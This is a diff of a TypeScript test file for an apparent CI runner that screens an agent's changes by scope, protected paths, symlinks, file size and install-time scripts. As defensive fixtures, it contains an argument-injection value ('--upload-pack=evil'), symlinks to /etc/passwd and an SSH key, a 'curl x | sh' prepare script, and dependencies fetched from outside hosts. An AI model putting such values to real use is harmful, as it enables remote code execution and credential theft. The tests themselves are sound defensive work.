@@ -1,16 +1,11 @@
-import { mkdtempSync, rmSync } from "node:fs";
-import { tmpdir } from "node:os";
-import { join } from "node:path";
 import { describe, expect, it } from "vitest";
 import { briefFor } from "../../src/render/batchBrief.js";
 import { reportFrom } from "../../src/report/reportBlock.js";
 import { reportMarker } from "../../src/report/reportSchema.js";
-import { withGitAuth } from "../../src/runner/auth.js";
 import { briefChecks, briefHeader } from "../../src/runner/brief.js";
-import { git } from "../../src/runner/git.js";
 import { readInputs } from "../../src/runner/inputs.js";
 import { buildReport, BODY_LIMIT, pullRequestTitle, reportBody } from "../../src/runner/report.js";
-import { inScope } from "../../src/runner/scope.js";
+import { inScope, installScriptProblem, judge, type Entry } from "../../src/runner/judge.js";
 import { lastLines, runShell } from "../../src/runner/shell.js";
 import { batch, plan } from "../render/planFixture.js";
 import { asJob } from "./sandbox.js";
@@ -41,7 +36,6 @@ describe("the brief as the runner reads it", () => {
 describe("inputs", () => {
   const env = (values: Record<string, string>) => Object.fromEntries(Object.entries(values).map(([name, value]) => [`INPUT_${name.toUpperCase()}`, value]));
   const valid = {
-    "github-token": "t",
     issue: "3",
     batch: "2a",
     attempt: "2",
@@ -50,21 +44,32 @@ describe("inputs", () => {
     scope: '{"allow":["src/**"]}',
     brief: "  keep my spaces  \n",
     agent: "claude -p",
+    mode: "agent",
   };
 
   it("reads INPUT_* as the runner sets them (hyphens kept, upper case), trimmed except the brief", async () => {
-    const named = { ...env(valid), "INPUT_GITHUB-TOKEN": "from INPUT_GITHUB-TOKEN", "INPUT_SCOPE-MODE": "  report \n" };
-    expect(await asJob(named, readInputs)).toMatchObject({ ok: true, inputs: { token: "from INPUT_GITHUB-TOKEN", scopeMode: "report" } });
+    const named = { ...env({ ...valid, mode: "publish", needs: '{"verify":{"result":"success","outputs":{"digest":"d"}}}' }), "INPUT_GITHUB-TOKEN": "from INPUT_GITHUB-TOKEN", "INPUT_SCOPE-MODE": "  report \n" };
+    expect(await asJob(named, readInputs)).toMatchObject({ ok: true, inputs: { token: "from INPUT_GITHUB-TOKEN", scopeMode: "report", needs: { verify: { outputs: { digest: "d" } } } } });
     const read = await asJob(env(valid), readInputs);
     expect(read).toMatchObject({
       ok: true,
-      inputs: { issue: 3, batch: "2a", attempt: 2, scope: { allow: ["src/**"], deny: [] }, brief: "  keep my spaces  \n", timeoutMinutes: 30, scopeMode: "revert" },
+      inputs: {
+        mode: "agent",
+        issue: 3,
+        batch: "2a",
+        attempt: 2,
+        scope: { allow: ["src/**"], deny: [], allowProtected: [], allowSymlinks: false, allowSubmodules: false },
+        brief: "  keep my spaces  \n",
+        timeoutMinutes: 30,
+        scopeMode: "revert",
+        limits: { maxFileBytes: 1024 * 1024, maxChangeBytes: 10 * 1024 * 1024 },
+      },
     });
     if (read.ok) expect(read.inputs.checks).toBeUndefined();
   });
 
   it("names every problem", async () => {
-    const read = await asJob(env({ ...valid, base: "--upload-pack=evil", scope: '{"allow":["/etc/**"]}', "timeout-minutes": "0", "scope-mode": "ignore", issue: "x" }), readInputs);
+    const read = await asJob(env({ ...valid, base: "--upload-pack=evil", scope: '{"allow":["/etc/**"]}', "timeout-minutes": "0", "scope-mode": "ignore", issue: "x", "max-file-bytes": "99999999999" }), readInputs);
     expect(read.ok).toBe(false);
     if (read.ok) return;
     expect(read.problems.join("\n")).toMatch(/`issue` must be a positive whole number/);
@@ -72,17 +77,62 @@ describe("inputs", () => {
     expect(read.problems.join("\n")).toMatch(/`scope`.allow.0: `\/etc\/\*\*` is not a usable glob/);
     expect(read.problems.join("\n")).toMatch(/`timeout-minutes` must be more than 0/);
     expect(read.problems.join("\n")).toMatch(/`scope-mode` must be `revert` or `report`/);
+    expect(read.problems.join("\n")).toMatch(/`max-file-bytes` must be/);
+    expect((await asJob(env({ ...valid, mode: "deploy" }), readInputs)).ok).toBe(false);
   });
 });
 
-describe("scope", () => {
-  it("allows what allow matches and deny does not, never a workflow", () => {
-    const scope = { allow: ["src/**", ".github/**"], deny: ["src/owned/**"] };
+describe("the judge of a change", () => {
+  const scope = { allow: ["src/**", ".github/**"], deny: ["src/owned/**"], allowProtected: [], allowSymlinks: false, allowSubmodules: false };
+  const limits = { maxFileBytes: 100, maxChangeBytes: 1_000 };
+  const file = (path: string, extra: Partial<Entry> = {}): Entry => ({ path, oldMode: "100644", newMode: "100644", size: 10, ...extra });
+
+  it("allows what allow matches and deny does not", () => {
     expect(inScope("src/a.ts", scope)).toBe(true);
     expect(inScope("src/owned/b.ts", scope)).toBe(false);
-    expect(inScope("docs/x.md", scope)).toBe(false);
-    expect(inScope(".github/CODEOWNERS", scope)).toBe(true);
-    expect(inScope(".github/workflows/ci.yml", scope)).toBe(false);
+    expect(judge(file("src/a.ts"), scope, limits)).toEqual({ kind: "keep" });
+    expect(judge(file("docs/x.md"), scope, limits)).toEqual({ kind: "outOfScope" });
+  });
+
+  it("refuses protected paths whatever allow says, unless allowProtected names them", () => {
+    for (const path of [".github/workflows/ci.yml", ".github/CODEOWNERS", ".github/parallel-coordinator.yml", ".github/actions/x/action.yml", "CODEOWNERS", ".gitmodules", "src/.npmrc", ".yarnrc.yml", ".yarn/releases/yarn.cjs", ".pnpmfile.cjs", "gradle/wrapper/gradle-wrapper.properties"]) {
+      expect(judge(file(path), { ...scope, allow: ["**"] }, limits), path).toMatchObject({ kind: "refused", why: expect.stringMatching(/^protected: /) });
+    }
+    expect(judge(file(".github/workflows/ci.yml"), { ...scope, allowProtected: [".github/workflows/**"] }, limits)).toEqual({ kind: "keep" });
+    // A deletion is a change too: deleting a workflow is refused like editing it.
+    expect(judge(file(".github/workflows/ci.yml", { newMode: "000000" }), scope, limits).kind).toBe("refused");
+  });
+
+  it("refuses submodules and symlinks unless the scope allows them, and symlinks out of the repository or the scope always", () => {
+    expect(judge(file("src/lib", { newMode: "160000" }), scope, limits)).toMatchObject({ kind: "refused", why: expect.stringContaining("submodule") });
+    expect(judge(file("src/lib", { newMode: "160000" }), { ...scope, allowSubmodules: true }, limits)).toEqual({ kind: "keep" });
+    const link = (target: string) => file("src/link", { newMode: "120000", target });
+    expect(judge(link("a.ts"), scope, limits)).toMatchObject({ kind: "refused", why: expect.stringContaining("symlink") });
+    const symlinks = { ...scope, allowSymlinks: true };
+    expect(judge(link("a.ts"), symlinks, limits)).toEqual({ kind: "keep" });
+    expect(judge(link("../../etc/passwd"), symlinks, limits)).toMatchObject({ why: "a symlink pointing outside the repository" });
+    expect(judge(link("/home/runner/.ssh/id_rsa"), symlinks, limits)).toMatchObject({ why: "a symlink pointing outside the repository" });
+    expect(judge(link("../.git/config"), symlinks, limits)).toMatchObject({ why: "a symlink into git's own folder" });
+    expect(judge(link("../.github/workflows"), symlinks, limits)).toMatchObject({ why: expect.stringMatching(/^a symlink to a protected path/) });
+    expect(judge(link("../docs"), symlinks, limits)).toMatchObject({ why: "a symlink to a path outside the batch's scope" });
+  });
+
+  it("refuses a file over max-file-bytes", () => {
+    expect(judge(file("src/big.bin", { size: 101 }), scope, limits)).toMatchObject({ kind: "refused", why: "101 bytes, over the 100 a file may have (`max-file-bytes`)" });
+  });
+
+  it("refuses a package.json whose change runs or fetches something new at install time", () => {
+    const manifest = (scripts: object, dependencies: object = {}) => JSON.stringify({ name: "x", scripts, dependencies });
+    const before = manifest({ test: "vitest" }, { zod: "^4.0.0" });
+    expect(installScriptProblem(before, manifest({ test: "vitest run", build: "tsc" }, { zod: "^4.1.0", "left-pad": "npm:left-pad@1", shared: "workspace:*" }))).toBeUndefined();
+    expect(installScriptProblem(before, manifest({ test: "vitest", postinstall: "node x.js" }))).toBe("it changes the `postinstall` script, which npm runs at install time");
+    expect(installScriptProblem(before, manifest({ test: "vitest" }, { evil: "github:someone/evil" }))).toMatch(/^it takes `evil` from outside the registry/);
+    expect(installScriptProblem(before, manifest({ test: "vitest" }, { evil: "https://example.com/evil.tgz" }))).toMatch(/^it takes `evil` from outside the registry/);
+    expect(installScriptProblem(before, manifest({ test: "vitest" }, { evil: "../evil" }))).toMatch(/^it takes `evil` from outside the registry/);
+    expect(installScriptProblem(undefined, "{")).toMatch(/^not JSON/);
+    const entry = file("src/package.json", { manifest: { before, after: manifest({ prepare: "curl x | sh" }) } });
+    expect(judge(entry, scope, limits)).toMatchObject({ kind: "refused", why: "protected: it changes the `prepare` script, which npm runs at install time" });
+    expect(judge(entry, { ...scope, allowProtected: ["src/package.json"] }, limits)).toEqual({ kind: "keep" });
   });
 });
 
@@ -125,26 +175,5 @@ describe("runShell", () => {
     // Waiting for the `sleep` would run into the 10 s limit and time out.
     const result = await runShell("sleep 20 & echo started", { cwd: process.cwd(), env: { PATH: process.env.PATH }, timeoutMs: 10_000, onOutput: () => {} });
     expect(result).toMatchObject({ code: 0, timedOut: false });
-  });
-});
-
-describe("git credentials", () => {
-  it("go to the runner's git through its environment, unless the checkout persisted its own", async () => {
-    const dir = mkdtempSync(join(tmpdir(), "pc-auth-"));
-    try {
-      const base = { PATH: process.env.PATH, HOME: dir, GIT_CONFIG_NOSYSTEM: "1", GIT_CONFIG_GLOBAL: join(dir, "gitconfig") };
-      expect((await git({ cwd: dir, env: base }, ["init", "-q"])).code).toBe(0);
-      const key = "http.https://github.com/.extraheader";
-      const env = await withGitAuth({ ...base, GIT_CONFIG_COUNT: "1", GIT_CONFIG_KEY_0: "core.quotepath", GIT_CONFIG_VALUE_0: "false" }, dir, "https://github.com", "tok");
-      expect(env.GIT_CONFIG_COUNT).toBe("2");
-      const header = await git({ cwd: dir, env }, ["config", "--get", key]);
-      expect(header.stdout.trim()).toBe(`AUTHORIZATION: basic ${Buffer.from("x-access-token:tok").toString("base64")}`);
-      expect((await git({ cwd: dir, env }, ["config", "--get", "core.quotepath"])).stdout.trim()).toBe("false");
-
-      await git({ cwd: dir, env: base }, ["config", key, "AUTHORIZATION: basic persisted"]);
-      expect(await withGitAuth(base, dir, "https://github.com/", "tok")).toEqual(base);
-    } finally {
-      rmSync(dir, { recursive: true, force: true });
-    }
   });
 });
